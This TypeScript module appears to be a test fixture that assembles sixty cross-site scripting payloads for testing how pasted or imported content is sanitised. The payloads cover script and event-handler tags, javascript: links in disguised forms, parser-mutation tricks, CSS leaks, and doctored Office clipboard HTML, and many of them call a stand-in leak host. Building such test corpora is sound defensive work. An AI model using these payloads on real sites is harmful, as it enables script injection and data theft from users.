/** Where every payload would report to. Nothing may ever ask for it. */
export const leakHost = "leck.example";

/** Code that notes that it ran, wherever it runs; without double quotes and angle brackets. */
const ran = (id: string) => `for(const w of [self,parent,top])try{(w.xssRan??=[]).push('${id}')}catch{}`;
const leak = (id: string) => `https://${leakHost}/${id}`;

type Payload = {
  /** What it tries; also its id. */
  name: string;
  /** As it would stand on a clipboard, in a Markdown file, in a cell, in a name. */
  text: string;
  /** The address it wants to have stored as a link. */
  link?: string;
};

const payload = (
  name: string,
  text: (code: string, url: string) => string,
  link?: (code: string) => string,
): Payload => ({
  name,
  text: text(ran(name), leak(name)),
  ...(link && { link: link(ran(name)) }),
});

const anchor = (name: string, address: (code: string) => string): Payload =>
  payload(name, (code) => `<a href="${address(code)}">Angebot</a>`, address);

const entities = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join("");

/** Elements that run code or load something as soon as they stand in a page. */
const loading: Payload[] = [
  payload("script", (code) => `<script>${code}</script>`),
  payload("script-src", (_, url) => `<script src="${url}"></script>`),
  payload("img-onerror", (code) => `<img src=x onerror="${code}">`),
  payload("img-src", (_, url) => `<p>Text <img src="${url}"></p>`),
  payload("img-srcset", (_, url) => `<img srcset="${url} 1x, ${url}2 2x">`),
  payload("picture", (_, url) => `<picture><source srcset="${url}"><img src="${url}"></picture>`),
  payload("body-onload", (code) => `<body onload="${code}">Text</body>`),
  payload("autofocus", (code) => `<input autofocus onfocus="${code}">`),
  payload("details-ontoggle", (code) => `<details open ontoggle="${code}"><summary>Mehr</summary></details>`),
  payload("marquee", (code) => `<marquee onstart="${code}">Lauf</marquee>`),
  payload("video", (code, url) => `<video src="${url}" onerror="${code}" autoplay></video>`),
  payload("audio", (code) => `<audio src=x onerror="${code}"></audio>`),
  payload("object", (_, url) => `<object data="${url}" type="text/html"></object>`),
  payload("embed", (_, url) => `<embed src="${url}">`),
  payload(
    "iframe-srcdoc",
    (code) => `<iframe srcdoc="<img src=x onerror=${entities(`"${code}"`)}>"></iframe>`,
  ),
  payload("iframe-src", (_, url) => `<iframe src="${url}"></iframe>`),
  payload("iframe-javascript", (code) => `<iframe src="javascript:${code}"></iframe>`),
  payload("base", (_, url) => `<base href="${url}/"><img src="bild.png"><a href="seite">Seite</a>`),
  payload("meta-refresh", (_, url) => `<meta http-equiv="refresh" content="0;url=${url}">`),
  payload(
    "meta-csp",
    (_, url) => `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${url}">`,
  ),
  payload("form", (_, url) => `<form action="${url}"><input name=a value=b><button>Senden</button></form>`),
  payload(
    "formaction",
    (code) => `<form><button formaction="javascript:${code}">Weiter</button></form>`,
    (code) => `javascript:${code}`,
  ),
  payload("link-stylesheet", (_, url) => `<link rel="stylesheet" href="${url}">`),
  payload(
    "link-prefetch",
    (_, url) => `<link rel="prefetch" href="${url}"><link rel="dns-prefetch" href="${url}">`,
  ),
  payload("template", (code) => `<template shadowrootmode="open"><img src=x onerror="${code}"></template>`),
  payload(
    "noscript",
    (code) => `<noscript><p title="</noscript><img src=x onerror=${entities(`"${code}"`)}>"></noscript>`,
  ),
];

/** Pictures and formulas that carry code, and texts that change when they are parsed a second time. */
const mutating: Payload[] = [
  payload("svg-onload", (code) => `<svg onload="${code}"><circle r="5"/></svg>`),
  payload("svg-script", (code) => `<svg><script>${code}</script></svg>`),
  payload("svg-foreign", (code) => `<svg><foreignObject><img src=x onerror="${code}"></foreignObject></svg>`),
  payload("svg-use", (_, url) => `<svg><use href="${url}#a"/><image href="${url}"/></svg>`),
  payload(
    "svg-animate",
    (code) =>
      `<svg><a><animate attributeName="href" values="javascript:${code}"/><text y="20">Klick</text></a></svg>`,
  ),
  payload(
    "math",
    (code) => `<math><mtext><img src=x onerror="${code}"></mtext></math>`,
    (code) => `javascript:${code}`,
  ),
  payload(
    "math-href",
    (code) => `<math href="javascript:${code}">Klick</math>`,
    (code) => `JaVaScRiPt:${code}`,
  ),
  payload(
    "mutation-math-style",
    (code) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  ),
  payload(
    "mutation-svg-style",
    (code) => `<svg></p><style><a title="</style><img src=x onerror=${entities(`"${code}"`)}>">`,
  ),
  payload(
    "mutation-form",
    (code) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${code}">`,
  ),
  payload(
    "mutation-noembed",
    (code) => `<noembed><b title="</noembed><img src=x onerror=${entities(`"${code}"`)}>"></noembed>`,
  ),
  payload("mutation-comment", (code) => `<!--><img src=x onerror="${code}">-->`),
  payload("mutation-cdata", (code) => `<svg><desc><![CDATA[</desc><img src=x onerror="${code}">]]></svg>`),
  payload(
    "double-encoded",
    (code) => `&lt;img src=x onerror="${code}"&gt; &amp;lt;script&amp;gt;${code}&amp;lt;/script&amp;gt;`,
  ),
  payload("broken-tags", (code) => `<<script>${code}//<</script><img """><script>${code}</script>">`),
];

/** Links whose address is code, in every disguise browsers once accepted. */
const links: Payload[] = [
  anchor("javascript", (code) => `javascript:${code}`),
  anchor("javascript-case", (code) => `JaVaScRiPt:${code}`),
  anchor("javascript-tab", (code) => `java\tscript:${code}`),
  anchor("javascript-newline", (code) => `java\nscript:${code}`),
  anchor("javascript-entities", (code) => `${entities("javascript:")}${code}`),
  anchor("javascript-blank", (code) => ` \u0001javascript:${code}`),
  anchor("vbscript", () => "vbscript:MsgBox(1)"),
  anchor("data-html", (code) => `data:text/html,%3Cscript%3E${encodeURIComponent(code)}%3C/script%3E`),
  anchor("blob-file", () => "file:///etc/passwd"),
  anchor("unc", () => `\\\\${leakHost}\\freigabe`),
];

/** Styles that load or cover something. */
const styles: Payload[] = [
  payload("style-url", (_, url) => `<p style="background:url(${url});position:fixed;inset:0">Text</p>`),
  payload(
    "style-import",
    (_, url) => `<style>@import url(${url}); body { background: url(${url}) }</style><p>Text</p>`,
  ),
  payload(
    "style-read-out",
    (_, url) =>
      `<style>input[value^="a"] { background: url(${url}) } @font-face { font-family: x; src: url(${url}) }</style><span style="font-family:x">Text</span>`,
  ),
];

/** What office programs put on the clipboard, with something added. */
const office: Payload[] = [
  payload(
    "word",
    (code, url) =>
      `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal {mso-style-parent:""; background:url(${url})}</style></head><body><!--StartFragment--><p class=MsoNormal style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>·<img src=x onerror="${code}"></span><![endif]>Text<o:p onmouseover="${code}"></o:p></p><!--EndFragment--></body></html>`,
  ),
  payload(
    "word-conditional",
    (code) =>
      `<!--[if gte mso 9]><xml><o:OLEObject ProgID="x"/></xml><![endif]--><!--[if !mso]><img src=x onerror="${code}"><![endif]--><p class=MsoTitle onclick="${code}">Titel</p>`,
  ),
  payload(
    "word-vml",
    (code, url) =>
      `<v:shape onmouseenter="${code}"><v:imagedata src="${url}" o:href="${url}"/></v:shape><p class=MsoHeading1>Titel</p>`,
  ),
  payload(
    "outlook",
    (code, url) =>
      `<div class=WordSection1><p class=MsoNormal><a name="_MailAutoSig"></a><a href="javascript:${code}">hier</a> <img width=1 height=1 src="${url}"></p></div>`,
    (code) => `javascript:${code}`,
  ),
  payload(
    "excel",
    (code, url) =>
      `<table><colgroup><col style='mso-width-source:userset;background:url(${url})'></colgroup><tr><td class=xl65 x:fmla="=WEBDIENST(&quot;${url}&quot;)" onclick="${code}">=HYPERLINK("${url}")</td></tr></table>`,
  ),
  payload(
    "markdown",
    (code, url) => `[Angebot](javascript:${code}) ![Bild](${url}) <javascript:${code}> [x]: data:text/html,x`,
    (code) => `javascript:${code}`,
  ),
];

/** Sixty things people may be made to paste, read in or name a file (RELIABILITY.md 2.3, P12). */
export const xssPayloads: readonly Payload[] = [...loading, ...mutating, ...links, ...styles, ...office];
